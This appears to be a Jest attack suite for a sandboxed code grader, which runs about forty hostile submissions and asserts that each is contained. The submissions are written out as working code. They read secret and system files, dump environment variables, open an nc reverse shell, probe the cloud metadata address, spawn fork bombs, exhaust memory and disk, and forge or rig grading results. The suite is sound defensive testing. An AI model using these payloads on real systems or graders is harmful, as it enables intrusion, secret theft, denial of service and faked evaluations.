// The attack suite: hostile submissions, each asserting the safe outcome AND that the host is
// untouched — sentinel files unchanged, no process of a sandbox uid left running, the "grader's"
// port never reached, and the grader still grading honest code correctly afterwards.
// Runs through gradeSubmission with every sandbox layer (CI installs bubblewrap and runs as root).
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { loadExercise } from '@tyinglab/exercise-format';
import { resetGraderConfigForTests } from '../config';
import { gradeSubmission, type GradeOutcome } from '../grade/grade-submission';
import { hostCapabilities, missingLayers } from './capabilities';

// Dedicated uids for this file (no warm pool), so "no survivors" can be checked by uid.
const UID_BASE = 65_000;
process.env.GRADER_SLOT_UID_BASE = String(UID_BASE);
process.env.GRADER_WARM_POOL = '0';
process.env.GRADER_SANDBOX = 'strict';
process.env.TYINGLAB_TEST_SECRET = 'sekret-env-value-4711';
resetGraderConfigForTests();

const CI = process.env.CI === 'true' || process.env.CI === '1';
const missing = missingLayers(hostCapabilities());
if (missing.length > 0 && CI) throw new Error(`the attack suite needs every sandbox layer under CI; missing: ${missing.join('; ')}`);
const describeFull = missing.length === 0 ? describe : describe.skip;
if (missing.length > 0) console.warn(`[attacks] skipped: this host lacks sandbox layers (${missing.join('; ')}); CI fails instead`);

jest.setTimeout(120_000);

const def = loadExercise('tied-conv2d');
const solution = fs.readFileSync(path.join(def.dir, 'solution.ts'), 'utf8');
const SOLUTION_MARKER = solution.split('\n').find((l) => l.includes('tf.') && l.length > 30)!.trim();
const LIMIT_MS = 3000;

const sentinelDir = fs.mkdtempSync(path.join(os.tmpdir(), 'tyinglab-sentinel-'));
const sentinel = path.join(sentinelDir, 'secret.txt');
const SECRET = `host-secret-${crypto.randomBytes(6).toString('hex')}`;
fs.writeFileSync(sentinel, SECRET, { mode: 0o644 }); // world-readable on purpose: isolation, not permissions, must stop it
fs.chmodSync(sentinelDir, 0o755);
const sentinelStat = () => {
  const st = fs.statSync(sentinel);
  return `${st.size}:${st.mtimeMs}:${fs.readFileSync(sentinel, 'utf8')}:${fs.readdirSync(sentinelDir).join(',')}`;
};
const sentinelBefore = sentinelStat();

let portHits = 0;
let graderPort = 0;
const server = net.createServer((s) => {
  portHits++;
  s.destroy();
});

function sandboxUidProcesses(): string[] {
  const out = execFileSync('ps', ['-e', '-o', 'uid=,pid=,args='], { encoding: 'utf8' });
  return out
    .split('\n')
    .filter((l) => {
      const uid = Number(l.trim().split(/\s+/)[0]);
      return uid >= UID_BASE && uid < UID_BASE + 64;
    });
}

async function grade(code: string, timeLimitMs = LIMIT_MS): Promise<GradeOutcome> {
  return gradeSubmission({ exercise: def, code, timeLimitMs });
}

/**
 * Learner code that tries `body` at load time with Node's real require (reached through
 * process.mainModule): the module fails to load with "ESCAPED" if it worked, "blocked <why>" if not.
 */
function escape(body: string): string {
  return `const req: any = (process as any).mainModule ? (process as any).mainModule.require.bind((process as any).mainModule) : (m: string) => { throw new Error('no require for ' + m); };
let escaped = false; let why = '';
try { (() => { ${body} })(); escaped = true; } catch (e) { why = String((e as any)?.code ?? (e as Error)?.message ?? e).slice(0, 40); }
throw new Error(escaped ? 'ESCAPED' : 'blocked ' + why);
export {};`;
}

/** Starts an asynchronous attempt at load time, then behaves like the starter; success would show on the host. */
function backgroundAttempt(body: string): string {
  return `const req: any = (process as any).mainModule.require.bind((process as any).mainModule);
try { ${body} } catch { /* refused synchronously */ }
${def.starter}`;
}

function expectBlocked(o: GradeOutcome): void {
  // The attack ran at load time and was refused by the sandbox.
  expect(o.status).toBe('NOT_GRADABLE');
  if (o.status !== 'NOT_GRADABLE') return;
  expect(o.reason).toBe('LOAD_ERROR');
  expect(o.message).toContain('blocked');
  expect(o.message).not.toContain('ESCAPED');
  expect(o.message).not.toContain(SECRET);
}

function expectNotGradable(o: GradeOutcome, reasons: string[]): void {
  expect(o.status).toBe('NOT_GRADABLE');
  if (o.status === 'NOT_GRADABLE') expect(reasons).toContain(o.reason);
}

function expectLowScore(o: GradeOutcome): void {
  if (o.status === 'GRADED') expect(o.score).toBeLessThan(1);
  else expect(o.status).toBe('NOT_GRADABLE');
}

describeFull('sandbox attack suite', () => {
  beforeAll(async () => {
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    graderPort = (server.address() as net.AddressInfo).port;
  });

  afterEach(async () => {
    // The host is untouched after every attack.
    expect(sentinelStat()).toBe(sentinelBefore);
    expect(portHits).toBe(0);
    // Processes are killed by the runner; allow the kernel a moment to reap them.
    const deadline = Date.now() + 3000;
    while (sandboxUidProcesses().length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    expect(sandboxUidProcesses()).toEqual([]);
  });

  afterAll(async () => {
    server.close();
    // The grader still grades honest code correctly after everything above.
    const o = await grade(solution);
    expect(o).toMatchObject({ status: 'GRADED', score: 1 });
    fs.rmSync(sentinelDir, { recursive: true, force: true });
  });

  const attacks: [string, () => string, (o: GradeOutcome) => void, number?][] = [
    // --- reading secrets: solution, checks, host files, environment -----------------------------------
    ['reads the solution by relative path', () => escape(`return req('fs').readFileSync('../../exercises/tied-conv2d/solution.ts', 'utf8');`), expectBlocked],
    ['reads the solution by absolute path', () => escape(`return req('fs').readFileSync(${JSON.stringify(path.join(def.dir, 'solution.ts'))}, 'utf8');`), expectBlocked],
    ['reads checks.ts by absolute path', () => escape(`return req('fs').readFileSync(${JSON.stringify(path.join(def.dir, 'checks.ts'))}, 'utf8');`), expectBlocked],
    ['reads a world-readable host file', () => escape(`if (!req('fs').readFileSync(${JSON.stringify(sentinel)}, 'utf8')) throw new Error('empty');`), expectBlocked],
    ['reads /etc/passwd', () => escape(`return req('fs').readFileSync('/etc/passwd', 'utf8');`), expectBlocked],
    ['follows a symlink it plants in /tmp', () => escape(`req('fs').symlinkSync(${JSON.stringify(def.dir)}, '/tmp/x'); return req('fs').readFileSync('/tmp/x/solution.ts', 'utf8');`), expectBlocked],
    ['lists the grader folder', () => escape(`return req('fs').readdirSync(${JSON.stringify(path.dirname(def.dir))});`), expectBlocked],
    ['imports the solution module', () => `import * as sol from '../solution';\nexport const createTiedConv2d = (sol as any).createTiedConv2d;`, (o) => expectNotGradable(o, ['LOAD_ERROR'])],
    [
      'uses a /// <reference path> to grader files at compile time',
      () => `/// <reference path="${path.join(def.dir, 'solution.ts')}" />\n${def.starter}`,
      (o) => {
        expectLowScore(o);
        expect(JSON.stringify(o)).not.toContain(SOLUTION_MARKER);
      },
    ],
    [
      'dumps process.env into its error message',
      () => `throw new Error(JSON.stringify(process.env));\nexport {};`,
      (o) => {
        expectNotGradable(o, ['LOAD_ERROR']);
        expect(JSON.stringify(o)).not.toContain('sekret-env-value-4711');
        expect(JSON.stringify(o)).not.toContain('DATABASE_URL');
      },
    ],
    ['reads /proc of its parent', () => escape(`return req('fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8');`), expectBlocked],
    // --- network ------------------------------------------------------------------------------------------
    // (the afterEach check proves the grader's port was never reached)
    ['connects to 127.0.0.1 on the grader port', () => backgroundAttempt(`const s = req('net').connect(${graderPort}, '127.0.0.1', () => s.write('pwned')); s.on('error', () => {});`), expectLowScore],
    ['connects to the grader port over IPv6 loopback', () => backgroundAttempt(`const s = req('net').connect(${graderPort}, '::1', () => s.write('pwned')); s.on('error', () => {});`), expectLowScore],
    ['connects to the cloud metadata address', () => backgroundAttempt(`const s = req('net').connect(80, '169.254.169.254', () => { throw new Error('ESCAPED'); }); s.on('error', () => {});`), expectLowScore],
    ['sends UDP datagrams out', () => backgroundAttempt(`req('dgram').createSocket('udp4').send('x', 53, '8.8.8.8', () => {});`), expectLowScore],
    ['opens a reverse shell', () => escape(`req('child_process').spawn('/bin/sh', ['-c', 'nc 127.0.0.1 ${graderPort}']);`), expectBlocked],
    // --- processes ----------------------------------------------------------------------------------------
    ['fork bomb through child_process', () => escape(`for (let i = 0; i < 100; i++) req('child_process').fork(__filename);`), expectBlocked],
    ['spawns through the internal process binding', () => escape(`(process as any).binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh'], stdio: [] });`), expectBlocked],
    ['floods worker threads', () => escape(`const { Worker } = req('worker_threads'); for (let i = 0; i < 64; i++) new Worker('while(true){}', { eval: true });`), expectBlocked],
    ['starts a daemon meant to outlive the run', () => escape(`req('child_process').spawn('sleep', ['1000'], { detached: true, stdio: 'ignore' }).unref();`), expectBlocked],
    ['kills its parent', () => `process.kill(process.ppid, 'SIGKILL');\n${def.starter}`, (o) => expectLowScore(o)],
    ['kills pid 1', () => `try { process.kill(1, 'SIGKILL'); } catch {}\n${def.starter}`, (o) => expectLowScore(o)],
    ['kills every process it can (-1)', () => `process.kill(-1, 'SIGKILL');\nexport {};`, (o) => expectNotGradable(o, ['CRASHED', 'LOAD_ERROR'])],
    // --- hanging --------------------------------------------------------------------------------------------
    ['busy loop', () => `while (true) {}\nexport {};`, (o) => expectNotGradable(o, ['TIME_LIMIT'])],
    ['patches Date.now and performance.now, then spins', () => `Date.now = () => 0; (performance as any).now = () => 0; while (true) {}\nexport {};`, (o) => expectNotGradable(o, ['TIME_LIMIT'])],
    ['Atomics.wait forever', () => `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);\nexport {};`, (o) => expectNotGradable(o, ['TIME_LIMIT'])],
    [
      'a promise that never resolves (with a live timer)',
      () => `export function createTiedConv2d() { setInterval(() => {}, 1000); return new Promise(() => {}); }`,
      expectLowScore,
    ],
    ['unbounded recursion', () => `function f(n: number): number { return f(n + 1) + 1; }\nf(0);\nexport {};`, (o) => expectNotGradable(o, ['LOAD_ERROR'])],
    ['throws an object whose toString never returns', () => `throw { toString() { while (true) {} } };\nexport {};`, (o) => expectNotGradable(o, ['TIME_LIMIT'])],
    // --- exhausting memory, disk and output -----------------------------------------------------------------
    [
      'allocates 10 GB of Buffers (and touches them)',
      () => `const keep: Buffer[] = []; for (let i = 0; i < 40; i++) keep.push(Buffer.alloc(256 * 1024 * 1024, 1));\nexport {};`,
      (o) => expectNotGradable(o, ['MEMORY_LIMIT']),
      20_000, // reaching the memory limit takes a few seconds on a loaded 2-core machine
    ],
    ['reserves 10 GB of address space', () => `const keep: Buffer[] = []; for (let i = 0; i < 40; i++) keep.push(Buffer.allocUnsafe(256 * 1024 * 1024));\nexport {};`, (o) => expectNotGradable(o, ['MEMORY_LIMIT', 'LOAD_ERROR'])],
    ['creates a giant tensor', () => `import * as tf from '@tensorflow/tfjs';\nconst t = tf.ones([100000, 100000]); t.dataSync();\nexport {};`, (o) => expectNotGradable(o, ['MEMORY_LIMIT', 'LOAD_ERROR'])],
    ['writes 1 GB to stdout', () => `const s = 'x'.repeat(1 << 20); for (let i = 0; i < 1024; i++) process.stdout.write(s);\nexport {};`, (o) => expectNotGradable(o, ['OUTPUT_LIMIT', 'TIME_LIMIT', 'CRASHED'])],
    ['writes 1 GB to stderr', () => `const s = 'x'.repeat(1 << 20); for (let i = 0; i < 1024; i++) process.stderr.write(s);\nexport {};`, (o) => expectNotGradable(o, ['OUTPUT_LIMIT', 'TIME_LIMIT', 'CRASHED', 'LOAD_ERROR'])],
    ['fills /tmp', () => escape(`const fs = req('fs'); const chunk = Buffer.alloc(1 << 20); for (let i = 0; i < 4096; i++) fs.writeFileSync('/tmp/f' + i, chunk);`), expectBlocked],
    // --- fooling the grader -----------------------------------------------------------------------------------
    [
      'prints a forged result frame, then exits with success',
      () =>
        `const fake = JSON.stringify({ kind: 'answers', probes: {}, tfReadyMs: 1 });\nprocess.stdout.write('\\nTYINGLAB-FRAME-00 ' + fake.length + '\\n' + fake + '\\nTYINGLAB-FRAME-00 END\\n');\nprocess.stdout.write('PASSED 100%\\n');\n(process as any).reallyExit(0);\nexport {};`,
      (o) => expectNotGradable(o, ['CRASHED']),
    ],
    ['monkey-patches tf to return the expected shapes', () => `import * as tf from '@tensorflow/tfjs';\n(tf as any).conv2d = () => tf.zeros([1, 1, 1, 1]);\n${def.starter.replace(/^import .*$/m, '')}`, expectLowScore],
    ['monkey-patches Math, JSON and Array.prototype', () => `Math.abs = () => 0; Math.max = () => 0; const s = JSON.stringify; JSON.stringify = (v: any) => s(v).replace(/false/g, 'true'); (Array.prototype as any).map = function () { return []; };\n${def.starter}`, expectLowScore],
    ['pollutes Object.prototype with passing fields', () => `(Object.prototype as any).passed = true; (Object.prototype as any).score = 1; (Object.prototype as any).ok = true;\n${def.starter}`, expectLowScore],
    [
      'returns Proxies, toJSON and Symbol.toPrimitive tricks instead of tensors',
      () =>
        `export function createTiedConv2d() {\n  const liar: any = new Proxy({}, { get: (_t, k) => (k === Symbol.toPrimitive ? () => 1 : k === 'toJSON' ? () => ({ shape: [3, 3, 3, 16], data: [] }) : liar) });\n  return { weights: () => liar, apply: () => liar };\n}`,
      expectLowScore,
    ],
    ['answers NaN and Infinity', () => `import * as tf from '@tensorflow/tfjs';\nexport function createTiedConv2d({ outChannels }: any) { const kernel = tf.variable(tf.fill([3, 3, 3, outChannels], NaN)); const bias = tf.variable(tf.fill([outChannels], Infinity)); return { weights: () => ({ kernel, bias }), apply: (x: any) => tf.fill([...x.shape.slice(0, 3), outChannels], NaN) }; }`, expectLowScore],
    [
      'smuggles hidden inputs out through error messages and console output',
      () => `import * as tf from '@tensorflow/tfjs';\nexport function createTiedConv2d() { return { weights: () => ({}), apply: (x: tf.Tensor) => { const v = Array.from(x.dataSync()).slice(0, 32); console.log(JSON.stringify(v)); throw new Error('inputs ' + JSON.stringify(v)); } }; }`,
      (o) => {
        expectLowScore(o);
        // Feedback carries no data-like numbers (the plan's values are random floats) and no stderr.
        expect(JSON.stringify(o)).not.toMatch(/-?\d+\.\d{3,}/);
      },
    ],
  ];

  it('has at least 30 attacks', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(30);
  });

  // (rest parameter: a 4th declared parameter would make jest pass a `done` callback)
  it.each(attacks)('%s', async (_name, code, assertOutcome, ...limit) => {
    const o = await grade(code(), limit[0]);
    assertOutcome(o);
  });
});
